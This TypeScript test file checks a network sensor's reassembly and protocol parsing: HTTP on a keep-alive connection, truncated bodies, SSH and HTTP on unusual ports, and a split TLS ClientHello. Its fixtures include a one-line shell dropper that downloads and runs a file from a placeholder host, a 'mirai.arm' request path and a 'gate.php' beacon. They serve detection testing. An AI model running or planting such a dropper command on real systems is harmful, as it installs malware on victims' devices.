// The sensor's app stage end to end: frames built in code go through decode, the flow table, the
// reassembler and the dispatch table, and a recording plug-in sees every record. A keep-alive
// connection with its segments reordered and retransmitted, a connection cut mid-body, SSH and
// HTTP on ports that say otherwise, a TLS ClientHello in three segments.
import { describe, expect, it } from 'vitest';
import type { AppRecord } from '../../gateway/app/app-record.js';
import type { PluginFactory } from '../../gateway/sensor/plugin.js';
import { ether, ETHER_IPV4, frame, ipv4, PROTO, tcp } from '../helpers/frames.js';
import { replayFrames, type TimedFrame } from '../helpers/replay-frames.js';
import { samples } from '../unit/decode/app/samples.js';

const DEV_MAC = '02:00:00:00:00:0a', GW_MAC = '02:00:00:00:00:01';
const DEV = '192.168.1.10', SRV = '198.51.100.7';

/** A recording plug-in: every record with its direction. */
function recorder(): { factory: PluginFactory; recs: { rec: AppRecord; dir: number }[] } {
  const recs: { rec: AppRecord; dir: number }[] = [];
  return { recs, factory: { name: 'recorder', rules: [], create: () => ({ onApp: (rec, _pv, _f, dir) => void recs.push({ rec, dir }) }) } };
}

/** One TCP connection DEV:sport → SRV:dport with sequence numbers kept straight per side. */
function connection(sport: number, dport: number) {
  const out: TimedFrame[] = [];
  const seq = [1000, 9000];
  let t = 1;
  const seg = (dir: 0 | 1, flags: string, payload?: Buffer, at?: number) => {
    const s = seq[dir]!;
    seq[dir] = s + (payload?.length ?? 0) + (flags.includes('S') || flags.includes('F') ? 1 : 0);
    const [src, dst, smac, dmac, sp, dp] = dir === 0 ? [DEV, SRV, DEV_MAC, GW_MAC, sport, dport] : [SRV, DEV, GW_MAC, DEV_MAC, dport, sport];
    const f = { t: at ?? (t += 0.01), data: frame(ether({ src: smac, dst: dmac, type: ETHER_IPV4 }), ipv4({ src, dst, proto: PROTO.TCP, payload: tcp({ sport: sp, dport: dp, flags, seq: s, ack: seq[1 - dir], payload }) })) };
    out.push(f);
    return f;
  };
  return { out, seg, handshake: () => { seg(0, 'S'); seg(1, 'SA'); seg(0, 'A'); } };
}

function elf(machine: number): Buffer {
  const b = Buffer.alloc(200, 0x41);
  b.writeUInt32BE(0x7f454c46, 0);
  b[4] = 1; b[5] = 1; b[6] = 1;
  b.writeUInt16LE(2, 16); b.writeUInt16LE(machine, 18);
  return b;
}

describe('the sensor reads every message of a connection', () => {
  it('10 requests and 10 responses on one keep-alive connection, segments reordered and retransmitted: 10 records each, bodies by magic', async () => {
    const c = connection(40000, 80);
    c.handshake();
    const machines = [0x03, 0x08, 0x28, 0x14, 0x3e, 0xb7, 0x04, 0x2a, 0x02, 0x28];
    for (let i = 0; i < 10; i++) {
      c.seg(0, 'PA', Buffer.from(`GET /f${i} HTTP/1.1\r\nHost: x\r\n\r\n`));
      const body = i === 4 ? Buffer.from('#!/bin/sh\ncd /tmp; wget http://x/a; chmod +x a; ./a\n') : elf(machines[i]!);
      const msg = Buffer.concat([Buffer.from(`HTTP/1.1 200 OK\r\nContent-Length: ${body.length}\r\n\r\n`), body]);
      // Three segments; the second arrives after the third, and the first is sent twice.
      const a = c.seg(1, 'PA', msg.subarray(0, 30));
      const b = c.seg(1, 'PA', msg.subarray(30, 45));
      const d = c.seg(1, 'PA', msg.subarray(45));
      b.t = d.t + 0.001;
      c.out.push({ t: b.t + 0.001, data: a.data });
    }
    c.seg(0, 'FA'); c.seg(1, 'FA'); c.seg(0, 'A');
    const r = recorder();
    const { summary, pipeline } = await replayFrames(c.out, { detect: { detectors: [], extraPlugins: [r.factory] } });
    const reqs = r.recs.filter((x) => x.rec.kind === 'http.request');
    const res = r.recs.map((x) => x.rec).filter((x) => x.kind === 'http.response');
    expect(reqs.map((x) => [x.dir, x.rec.kind === 'http.request' && x.rec.uri])).toEqual([...Array(10).keys()].map((i) => [0, `/f${i}`]));
    expect(res.map((x) => [x.magic, x.elfArch, x.request?.uri, x.truncated])).toEqual([
      ['elf', 'x86', '/f0', false], ['elf', 'mips', '/f1', false], ['elf', 'arm', '/f2', false], ['elf', 'ppc', '/f3', false],
      ['shell', null, '/f4', false], ['elf', 'aarch64', '/f5', false], ['elf', 'm68k', '/f6', false], ['elf', 'sh', '/f7', false],
      ['elf', 'sparc', '/f8', false], ['elf', 'arm', '/f9', false],
    ]);
    expect(summary.flows.top[0]).toMatchObject({ app: 'http', http: { method: 'GET', uri: '/f0' } });
    expect(summary.flows.top[0]!.appPortMismatch).toBeUndefined();
    const ev = pipeline.decodeCounters.toJSON();
    expect(ev['stream.retransmission']).toBe(10);
    expect(summary.decodeErrors).toBe(0);
  });

  it('a connection cut mid-body: the response is still reported, truncated, when the flow ends', async () => {
    const c = connection(40001, 80);
    c.handshake();
    c.seg(0, 'PA', Buffer.from('GET /bins/mirai.arm HTTP/1.1\r\nHost: x\r\n\r\n'));
    const body = elf(0x28);
    c.seg(1, 'PA', Buffer.concat([Buffer.from('HTTP/1.1 200 OK\r\nContent-Length: 5000\r\n\r\n'), body]));
    c.seg(1, 'R');
    const r = recorder();
    await replayFrames(c.out, { detect: { detectors: [], extraPlugins: [r.factory] } });
    const res = r.recs.map((x) => x.rec).filter((x) => x.kind === 'http.response');
    expect(res).toHaveLength(1);
    expect(res[0]).toMatchObject({ magic: 'elf', elfArch: 'arm', truncated: true, bodyLen: body.length, contentLength: 5000 });
  });

  it('SSH on port 902 and HTTP on port 7080 are found by content; the flow says the port disagrees', async () => {
    const ssh = connection(40002, 902);
    ssh.handshake();
    ssh.seg(1, 'PA', Buffer.from('SSH-2.0-OpenSSH_7.4\r\n'));
    ssh.seg(0, 'PA', Buffer.from('SSH-2.0-Nmap-SSH2-Hostkey\r\n'));
    const http = connection(40003, 7080);
    http.handshake();
    http.seg(0, 'PA', Buffer.from('POST /gate.php HTTP/1.1\r\nHost: 198.51.100.7:7080\r\nContent-Length: 2\r\n\r\nhi'));
    const r = recorder();
    const { summary } = await replayFrames([...ssh.out, ...http.out], { detect: { detectors: [], extraPlugins: [r.factory] } });
    const byPort = new Map(summary.flows.top.map((f) => [f.dport, f]));
    expect(byPort.get(902)).toMatchObject({ app: 'ssh', appPortMismatch: true });
    expect(byPort.get(7080)).toMatchObject({ app: 'http', appPortMismatch: true });
    expect(r.recs.filter((x) => x.rec.kind === 'ssh.banner').map((x) => [x.dir, x.rec.kind === 'ssh.banner' && x.rec.software])).toEqual([[1, 'OpenSSH_7.4'], [0, 'Nmap-SSH2-Hostkey']]);
  });

  it('a TLS ClientHello over three segments gives SNI and JA4 on the flow', async () => {
    const c = connection(40004, 443);
    c.handshake();
    const hello = samples.tls.clientHello;
    c.seg(0, 'PA', hello.subarray(0, 3));
    c.seg(0, 'PA', hello.subarray(3, 50));
    c.seg(0, 'PA', hello.subarray(50));
    const r = recorder();
    const { summary } = await replayFrames(c.out, { detect: { detectors: [], extraPlugins: [r.factory] } });
    const f = summary.flows.top[0]!;
    expect(f).toMatchObject({ app: 'tls', sni: 'example.com' });
    expect(f.ja4).toMatch(/^t1[23]d\d{4}/);
    expect(r.recs.filter((x) => x.rec.kind === 'tls.client_hello')).toHaveLength(1);
  });
});
